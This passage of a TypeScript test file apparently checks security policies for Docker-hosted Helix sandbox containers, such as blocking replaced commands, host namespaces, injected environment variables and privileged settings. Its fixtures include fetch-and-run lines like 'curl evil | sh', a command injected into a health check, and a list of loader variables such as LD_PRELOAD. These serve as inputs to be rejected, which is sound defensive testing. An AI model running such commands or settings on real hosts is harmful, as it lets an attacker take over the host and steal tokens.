            ).toEqual([sharing("volume", "helix_postgres-data", "/data")]);
            // The sandbox's own named volume, mounted by a runner or a service.
            const service: Fixture = {
                type: SERVICE,
                name: "svc",
                props: {
                    name: "svc",
                    taskSpec: {
                        containerSpec: { image: "x:1", mounts: [{ type: "volume", source: "helix-sandbox-dev-1-docker", target: "/x" }] },
                    },
                },
            };
            const runnerTaking = runner({ volumes: [{ volumeName: "helix-sandbox-dev-1-docker", containerPath: "/cache" }] });
            expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), { ...runnerTaking, name: "r" }, service])).toEqual([
                sharing("volume", "helix-sandbox-dev-1-docker", "/var/lib/docker", "r, svc", "are"),
            ]);
        });

        it("fails a host folder of the sandbox's that another container binds, or a folder holding it", async () => {
            const bound = sandbox({ volumes: volumes(1, { "/data": { hostPath: "/srv/sandbox/data", containerPath: "/data" } }) });
            for (const hostPath of ["/srv/sandbox/data", "/srv//sandbox/", "/srv/sandbox/data/ws-1"]) {
                expect(await stackViolationsOf(sandboxOwnVolumes, [bound, postgres([{ hostPath, containerPath: "/x" }])])).toEqual([
                    sharing("host folder", "/srv/sandbox/data", "/data"),
                ]);
            }
            expect(
                await stackViolationsOf(sandboxOwnVolumes, [bound, postgres([{ hostPath: "/srv/sandbox/other", containerPath: "/x" }])]),
            ).toEqual([]);
        });

        it("fails a named volume that binds the sandbox's folder by another name", async () => {
            const bound = sandbox({ volumes: volumes(1, { "/data": { hostPath: "/srv/sandbox/data", containerPath: "/data" } }) });
            const volume: Fixture = {
                type: "docker:index/volume:Volume",
                name: "alias",
                props: { name: "alias", driver: "local", driverOpts: { type: "none", o: "bind", device: "/srv/sandbox" } },
            };
            expect(
                await stackViolationsOf(sandboxOwnVolumes, [bound, volume, postgres([{ volumeName: "alias", containerPath: "/x" }])]),
            ).toEqual([sharing("host folder", "/srv/sandbox/data", "/data")]);
        });

        it("allows the same volume name on another Docker host, and another container's own volumes", async () => {
            const elsewhere = postgres([{ volumeName: "helix-sandbox-dev-1-data", containerPath: "/x" }], {
                provider: { urn: "urn:provider:b", host: "ssh://b" },
            });
            expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), elsewhere])).toEqual([]);
            expect(
                await stackViolationsOf(sandboxOwnVolumes, [
                    sandbox(),
                    postgres([{ volumeName: "pg", containerPath: "/var/lib/postgresql/data" }]),
                ]),
            ).toEqual([]);
        });
    });

    it.each([
        ["ssh://bücher.example.com", "ssh://xn--bcher-kva.example.com"],
        ["ssh://ops@GPU-A.example.com.", "ssh://gpu-a.example.com:22"],
        ["unix:///var/run/docker.sock", undefined],
    ])("counts %s and %s as one Docker host", async (first, second) => {
        const a = sandbox({}, { provider: { urn: "urn:provider:a", host: first } });
        const b = sandbox({ volumes: sandboxProps(1).volumes }, { provider: { urn: "urn:provider:b", host: second } }, 2);
        expect(await stackViolationsOf(sandboxOwnVolumes, [a, b])).toHaveLength(3);
        // A provider without a host reaches the local engine, as the default provider does.
        const byDefault = sandbox({ volumes: sandboxProps(1).volumes }, {}, 2);
        if (second === undefined) expect(await stackViolationsOf(sandboxOwnVolumes, [a, byDefault])).toHaveLength(3);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(await stackViolationsOf(sandboxOwnVolumes, [runner(), { ...runner(), name: "runner-2" }])).toEqual([]);
    });
});

describe("sandbox-ids-unique", () => {
    it("passes distinct IDs", async () => {
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), sandbox({}, {}, 2), sandbox({}, {}, 3)])).toEqual([]);
    });

    it("fails a shared ID for one control plane, across Docker hosts and however its URL is spelled", async () => {
        const other = sandbox(
            {
                envs: [
                    ...withSandboxEnv("HELIX_API_URL", "https://HELIX.example.com:443/", 2).filter(
                        (e) => !e.startsWith("SANDBOX_INSTANCE_ID="),
                    ),
                    "SANDBOX_INSTANCE_ID=box-1",
                ],
            },
            { provider: { urn: "urn:provider:b", host: "ssh://b" } },
            2,
        );
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), other])).toEqual([
            'Sandboxes must have unique SANDBOX_INSTANCE_IDs per control plane: "box-1" is used by sandbox-1, sandbox-2.',
        ]);
    });

    it.each([
        ["https://helix.example.com/", "https://HELIX.example.com."],
        ["https://helix.example.com", "HTTPS://helix.example.com:443/"],
        ["https://bücher.example.com", "https://xn--bcher-kva.example.com"],
        ["http://api:8080", "http://API:8080/"],
    ])("counts %s and %s as one control plane", async (first, second) => {
        const spelled = (url: string, n: number) =>
            sandbox(
                {
                    envs: [
                        ...withSandboxEnv("HELIX_API_URL", url, n).filter((e) => !e.startsWith("SANDBOX_INSTANCE_ID=")),
                        "SANDBOX_INSTANCE_ID=box-1",
                    ],
                },
                {},
                n,
            );
        expect(await stackViolationsOf(sandboxIdsUnique, [spelled(first, 1), spelled(second, 2)])).toEqual([
            'Sandboxes must have unique SANDBOX_INSTANCE_IDs per control plane: "box-1" is used by sandbox-1, sandbox-2.',
        ]);
    });

    it("allows one ID at two control planes", async () => {
        const other = sandbox({ envs: withSandboxEnv("HELIX_API_URL", "https://other.example.com") }, { name: "sandbox-1b" });
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox(), other])).toEqual([]);
    });

    it("fails a sandbox without an ID, which Helix calls local", async () => {
        const message = (name: string) =>
            `Sandbox container ${name} must set SANDBOX_INSTANCE_ID: without it the sandbox registers as "local", as does every other sandbox without one, and they replace each other.`;
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox({ envs: withSandboxEnv("SANDBOX_INSTANCE_ID", undefined) })])).toEqual([
            message("sandbox-1"),
        ]);
        expect(await stackViolationsOf(sandboxIdsUnique, [sandbox({ envs: withSandboxEnv("SANDBOX_INSTANCE_ID", "") })])).toEqual([
            message("sandbox-1"),
        ]);
    });

    it("ignores runners, whose IDs unique-runners checks", async () => {
        expect(await stackViolationsOf(sandboxIdsUnique, [runner(), { ...runner(), name: "runner-2" }, sandbox()])).toEqual([]);
    });
});

describe("sandbox-as-helix-runs-it", () => {
    it("passes a sandbox as Helix's installer runs it", async () => {
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox())).toEqual([]);
    });

    it("fails a sandbox whose entrypoint or command is replaced: privileged, it would run anything", async () => {
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ entrypoints: ["/bin/sh"], command: ["-c", "curl evil | sh"] }))).toEqual([
            "Sandbox container must run Helix's image as it is, with the image's own entrypoint (it sets entrypoints [\"/bin/sh\"]): privileged, anything else it ran would own the host and hold the runner token.",
            'Sandbox container must run Helix\'s image as it is, with the image\'s own command (it sets command ["-c","curl evil | sh"]): privileged, anything else it ran would own the host and hold the runner token.',
        ]);
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ entrypoints: [], command: [] }))).toEqual([]);
    });

    it.each([
        ["pidMode", "host", "Sandbox container must not use the host's namespace (pidMode: host): it runs in its own, as Helix runs it."],
        [
            "networkMode",
            "HOST",
            "Sandbox container must not use the host's namespace (networkMode: host): it runs in its own, as Helix runs it.",
        ],
        ["ipcMode", "host", "Sandbox container must not use the host's namespace (ipcMode: host): it runs in its own, as Helix runs it."],
        ["networkMode", "container:db", "Sandbox container must not share another container's namespace (networkMode: container:db)."],
    ])("fails %s %s", async (mode, value, message) => {
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ [mode]: value }))).toEqual([message]);
    });

    it("fails a sandbox that takes another container's volumes", async () => {
        const volumes = [...sandboxProps().volumes, { fromContainer: "helix-postgres" }];
        expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ volumes }))).toEqual([
            "Sandbox container must not take another container's volumes (fromContainer helix-postgres): each sandbox has volumes of its own.",
        ]);
    });

    describe("runs nothing but Helix's image", () => {
        it("passes the program's health check, or none (the image's own), and fails any other command", async () => {
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: { tests: [...SANDBOX_HEALTHCHECK_COMMAND] } }))).toEqual(
                [],
            );
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: undefined }))).toEqual([]);
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: { tests: ["NONE"] } }))).toEqual([]);
            for (const tests of [
                ["CMD-SHELL", "curl -s http://evil | sh"],
                ["CMD", "docker", "info"],
                [...SANDBOX_HEALTHCHECK_COMMAND, "; sh"],
                SANDBOX_HEALTHCHECK_COMMAND.map((t) => t.replace("hydra.sock", "evil.sock")),
            ]) {
                expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ healthcheck: { tests, interval: "30s" } }))).toEqual([
                    `Sandbox container's health check must be the program's, ${JSON.stringify(SANDBOX_HEALTHCHECK_COMMAND)}, or none (it sets ${JSON.stringify(tests)}): ` +
                        "Docker runs it inside the privileged sandbox, with the runner token in its environment.",
                ]);
            }
        });

        it("never shows the runner token from a replaced command", async () => {
            const found = await violationsOf(sandboxAsHelixRunsIt, sandbox({ command: ["sh", "-c", "echo a-real-runner-token-9f8e7d"] }));
            expect(found).toHaveLength(1);
            expect(found[0]).not.toContain("a-real-runner-token-9f8e7d");
        });

        it("fails another user or working folder than the image's own", async () => {
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ user: "0:0", workingDir: "/" }))).toEqual([
                `Sandbox container must run Helix's image as it is, as the image's own user (it sets user "0:0"): install.sh sets neither.`,
                `Sandbox container must run Helix's image as it is, as the image's own working folder (it sets workingDir "/"): install.sh sets neither.`,
            ]);
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ user: "" }))).toEqual([]);
        });

        it("fails files uploaded into it, whatever their path", async () => {
            for (const file of ["/entrypoint.sh", "/tmp/harmless.txt"]) {
                expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ uploads: [{ file, content: "#!/bin/sh\nevil" }] }))).toEqual([
                    `Sandbox container must not be given files (uploads ${file}): they would replace the image's own, which run privileged with the runner token.`,
                ]);
            }
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ uploads: [] }))).toEqual([]);
        });

        it.each([
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "BASH_ENV",
            "ENV",
            "BASH_FUNC_docker%%",
            "PATH",
            "NODE_OPTIONS",
            "PYTHONPATH",
            "GIT_CONFIG_COUNT",
            "DOCKER_HOST",
        ])("fails %s in its environment: it changes what the sandbox's programs load or run", async (name) => {
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ envs: withSandboxEnv(name, "/data/evil") }))).toEqual([
                `Sandbox container must not set ${name}: it changes what the privileged sandbox's own programs load or run, which must be Helix's image as it is.`,
            ]);
        });

        it("passes the variables the program and Helix's chart give a sandbox", async () => {
            const envs = [
                ...sandboxProps().envs,
                "HTTPS_PROXY=http://proxy.example.com:3128",
                "NO_PROXY=localhost,api",
                "HELIX_SANDBOX_APT_MIRROR=http://apt.example.com/ubuntu",
                "HELIX_DISK_PRESSURE_PATHS=/data",
                "HELIX_SANDBOX_REGISTRY=registry.example.com",
            ];
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ envs }))).toEqual([]);
        });

        it("fails a volume or host folder mounted over the image's own files", async () => {
            const withVolume = (extra: object) => sandbox({ volumes: [...sandboxProps().volumes, extra] });
            expect(await violationsOf(sandboxAsHelixRunsIt, withVolume({ volumeName: "tools", containerPath: "/usr/local/bin" }))).toEqual([
                "Sandbox container must not mount the volume tools at /usr/local/bin: it would put files of its own in place of the image's, which run privileged; " +
                    "a sandbox mounts only its volumes (/var/lib/docker, /data, /hydra-data) and /run/udev and /var/run/sandbox.",
            ]);
            expect(
                await violationsOf(sandboxAsHelixRunsIt, withVolume({ hostPath: "/srv/evil.sh", containerPath: "/entrypoint.sh" })),
            ).toHaveLength(1);
            const mounted = sandbox({ mounts: [{ type: "volume", source: "etc", target: "/etc/" }] });
            expect(await violationsOf(sandboxAsHelixRunsIt, mounted)).toHaveLength(1);
        });

        it("passes its own volumes' folders and what is in them, and what brings no files of its own", async () => {
            const fine = sandbox({
                volumes: [
                    ...sandboxProps().volumes,
                    { volumeName: "extra", containerPath: "/data/cache" },
                    { containerPath: "/var/cache" },
                ],
                mounts: [{ type: "tmpfs", target: "/tmp" }],
            });
            expect(await violationsOf(sandboxAsHelixRunsIt, fine)).toEqual([]);
        });

        it("fails the host network joined by name", async () => {
            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ networksAdvanced: [{ name: "HOST" }] }))).toEqual([
                "Sandbox container must not use the host's namespace (networksAdvanced: host): it runs in its own, as Helix runs it.",
            ]);
        });
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(await violationsOf(sandboxAsHelixRunsIt, runner({ command: ["sleep", "1"] }))).toEqual([]);
    });
});

describe("privileged in all but the flag", () => {
    const other = (changes: Record<string, unknown>) => ({
        type: CONTAINER,
        name: "other",
        props: { image: "docker.io/library/alpine:3.20", ...changes },
    });

    it.each([
        [{ capabilities: { adds: ["ALL"] } }, "capability ALL"],
        [{ capabilities: { adds: ["CAP_SYS_ADMIN"] } }, "capability SYS_ADMIN"],
        [{ securityOpts: ["seccomp=unconfined"] }, 'securityOpts "seccomp=unconfined"'],
        [{ securityOpts: ["apparmor:unconfined"] }, 'securityOpts "apparmor:unconfined"'],
        [{ devices: [{ hostPath: "/dev//mem" }] }, "the device /dev/mem, the host's memory"],
        [{ pidMode: "host" }, "pidMode: host"],
        [{ networkMode: "host" }, "networkMode: host"],
        [{ ipcMode: "host" }, "ipcMode: host"],
    ])("fails a container that is not flagged privileged but has %j", async (changes, what) => {
        expect(await violationsOf(sandboxPrivilegedOnly, other(changes) as Fixture)).toEqual([
            `Container must not be privileged in all but the flag (${what}): only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be privileged, and this one runs "docker.io/library/alpine:3.20".`,
        ]);
    });

    it("passes a plain container, and an allowed image", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, other({ capabilities: { adds: ["NET_BIND_SERVICE"] } }) as Fixture)).toEqual([]);
        const dind = { type: CONTAINER, name: "dind", props: { image: "docker:27-dind", capabilities: { adds: ["ALL"] } } } as Fixture;
        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker"] })).toEqual([]);
    });
});

describe("sandbox-no-published-ports", () => {
    it("passes a sandbox that publishes nothing", async () => {
        expect(await violationsOf(sandboxNoPublishedPorts, sandbox())).toEqual([]);
        expect(await violationsOf(sandboxNoPublishedPorts, sandbox({ ports: [] }))).toEqual([]);
    });

    it("fails published ports and publishAllPorts", async () => {
        expect(
            await violationsOf(
                sandboxNoPublishedPorts,
                sandbox({
                    ports: [
                        { internal: 8080, external: 18080, ip: "127.0.0.1" },
                        { internal: 53, protocol: "udp" },
                    ],
                }),
            ),
        ).toEqual([
            "Sandbox container must not publish ports (it publishes 8080/tcp, 53/udp): a sandbox dials out to its control plane and serves nothing on its host.",
        ]);
        expect(await violationsOf(sandboxNoPublishedPorts, sandbox({ publishAllPorts: true }))).toEqual([
            "Sandbox container must not set publishAllPorts: a sandbox serves nothing on its host.",
        ]);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(await violationsOf(sandboxNoPublishedPorts, runner())).toEqual([]);
    });
});
